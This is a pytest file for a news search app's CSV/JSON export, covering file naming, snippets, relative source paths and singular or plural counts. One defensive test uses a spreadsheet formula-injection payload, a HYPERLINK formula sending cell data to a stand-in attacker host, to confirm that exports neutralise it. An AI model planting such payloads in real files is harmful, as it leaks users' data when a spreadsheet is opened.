"""Exports (#15): named after the search, with snippets and, on request, the full text;
sources relative to what was indexed, never the server's absolute paths. And counts in
words: 1 article, 2 articles."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from search import Query, Settings
from search.query import export_filename, iter_hits
from search.query.hits import relative_source
from web import create_app


@pytest.fixture(scope="module")
def wiki_client(web_index_dir: Path) -> Any:
    settings = Settings.load({"index_dir": web_index_dir}, environ={})
    return create_app(settings).test_client()


def rows(response: Any) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


@pytest.mark.parametrize(
    ("query", "name"),
    [
        (Query(), "news-search.csv"),
        (Query(text="biden"), "news-search-biden.csv"),
        (
            Query(
                text="biden",
                published_from=date(2020, 3, 1),
                published_to=date(2020, 3, 31),
            ),
            "news-search-biden-2020-03.csv",
        ),
        (
            Query(published_from=date(2020, 1, 1), published_to=date(2020, 12, 31)),
            "news-search-2020.csv",
        ),
        (
            Query(
                text='"Kim Jong-un" -trump OR title:Zürich*', person=("Mike Pompeo",)
            ),
            "news-search-kim-jong-un-trump-title-zurich-mike-pompeo.csv",
        ),
        (Query(published_from=date(2020, 3, 2)), "news-search-from-2020-03-02.csv"),
        (Query(text="x" * 300), "news-search-" + "x" * 60 + ".csv"),
    ],
)
def test_export_file_name_from_the_search(query, name) -> None:
    assert export_filename(query, "csv") == name


def test_the_export_is_named_after_the_search(wiki_client) -> None:
    response = wiki_client.get("/api/export.json?q=biden&from=March+2020&to=March+2020")
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="news-search-biden-2020-03.json"'
    )


def test_csv_export_has_snippets_and_relative_sources(wiki_client) -> None:
    exported = rows(wiki_client.get("/api/export.csv?q=coronavirus"))
    page = wiki_client.get("/api/search?q=coronavirus&page_size=100").get_json()
    assert [r["id"] for r in exported] == [h["id"] for h in page["hits"]]
    assert len(exported) == 9
    for row, hit in zip(exported, page["hits"], strict=True):
        assert "coronavirus" in row["snippet"].lower()
        assert "<" not in row["snippet"]  # plain text: no markup
        assert row["source"] == hit["source"] == "wikinews.jsonl"
        assert "text" not in row
    # Typo tolerance applies to exports as to the page.
    assert [
        r["id"] for r in rows(wiki_client.get("/api/export.csv?q=coronavirsu"))
    ] == [r["id"] for r in exported]


def test_the_full_text_is_opt_in(wiki_client) -> None:
    exported = rows(wiki_client.get("/api/export.csv?q=coronavirus&text=1"))
    assert all(len(r["text"]) > len(r["snippet"]) > 0 for r in exported)
    data = wiki_client.get("/api/export.json?q=coronavirus&text=1").get_json()
    assert [d["text"] for d in data] == [r["text"] for r in exported]
    assert wiki_client.get("/api/export.json?text=yes").status_code == 400


def test_no_absolute_path_anywhere(wiki_client, web_index_dir) -> None:
    root = str(Path(__file__).resolve().parent.parent)
    for url in (
        "/api/export.csv?text=1",
        "/api/export.json",
        "/api/search?q=korea",
        "/?q=korea",
    ):
        body = wiki_client.get(url).get_data(as_text=True)
        assert root not in body, url
    seeds = wiki_client.get("/api/export.json?q=biegun").get_json()
    assert {d["source"] for d in seeds} == {
        "seeds/000_8f928ed757ee3960.txt",
        "seeds/002_8c9f69aaa352faaa.txt",
    }


def test_relative_source() -> None:
    roots = ["/data/news", "/data/news/extra.jsonl", "/other"]
    assert relative_source("/data/news/a/b.txt", roots) == "news/a/b.txt"
    assert relative_source("/data/news/extra.jsonl", roots) == "extra.jsonl"
    assert relative_source("/data/newsroom/c.txt", roots) == "c.txt"
    assert relative_source("/elsewhere/d.txt", []) == "d.txt"


def test_iter_hits_gives_snippets_and_text_on_request(web_index_dir) -> None:
    settings = Settings.load({"index_dir": web_index_dir}, environ={})
    [hit, *_] = iter_hits(Query(text="biegun"), settings, text=True)
    assert '<mark class="match' in hit.snippet and hit.text and hit.source


def test_counts_are_singular_or_plural(wiki_client, runner, web_index_dir) -> None:
    from search.cli import cli

    page = wiki_client.get("/?q=biegun").get_data(as_text=True)
    assert "1 articles" not in page
    one = runner.invoke(
        cli,
        [
            "--index-dir",
            str(web_index_dir),
            "search",
            '"Kay Hagan"',
            "--person",
            "Kay Hagan",
        ],
    )
    assert one.exit_code == 0 and one.stdout.startswith("1 article; showing 1-1"), (
        one.stdout
    )
    two = runner.invoke(cli, ["--index-dir", str(web_index_dir), "search", "biegun"])
    assert two.stdout.startswith("2 articles;"), two.stdout
    # Histogram bars say "1 article" to screen readers.
    assert ': 1 article"' in page or ": 1 article<" in page


def test_a_spreadsheet_shows_every_cell_as_text(tmp_path: Path) -> None:
    """An article titled like a formula, and a batch query starting with "-", come out
    with a leading apostrophe: opening the CSV runs nothing (OWASP's advice)."""
    import json

    from search.indexing import index_paths

    hostile = [
        {
            "id": "formula",
            "title": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            "text": "Oil prices rose on Monday as traders weighed supply cuts.",
        },
        {
            "id": "minus",
            "title": "-5% fall in oil output",
            "text": "Oil output fell five percent in March, the ministry said.",
        },
    ]
    path = tmp_path / "wire.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in hostile), encoding="utf-8")
    settings = Settings.load({"index_dir": tmp_path / "index"}, environ={})
    index_paths([path], settings, entities=False)
    client = create_app(settings).test_client()
    exported = {r["id"]: r for r in rows(client.get("/api/export.csv?q=oil"))}
    assert exported["formula"]["title"] == "'" + hostile[0]["title"]
    assert exported["minus"]["title"] == "'-5% fall in oil output"
    # Every hit says which copies group it is in and how many articles that holds.
    assert all(r["group"] and int(r["copies"]) >= 1 for r in exported.values())
    # The JSON export keeps the text as written.
    data = client.get("/api/export.json?q=oil").get_json()
    assert {h["title"] for h in data} == {r["title"] for r in hostile}
    batch = client.post(
        "/api/batch",
        data="-ministry oil\n",
        headers={"Content-Type": "text/plain"},
    )
    answers = list(csv.DictReader(io.StringIO(batch.get_data(as_text=True))))
    assert answers[0]["query"] == "'-ministry oil" and answers[0]["total"] == "1"
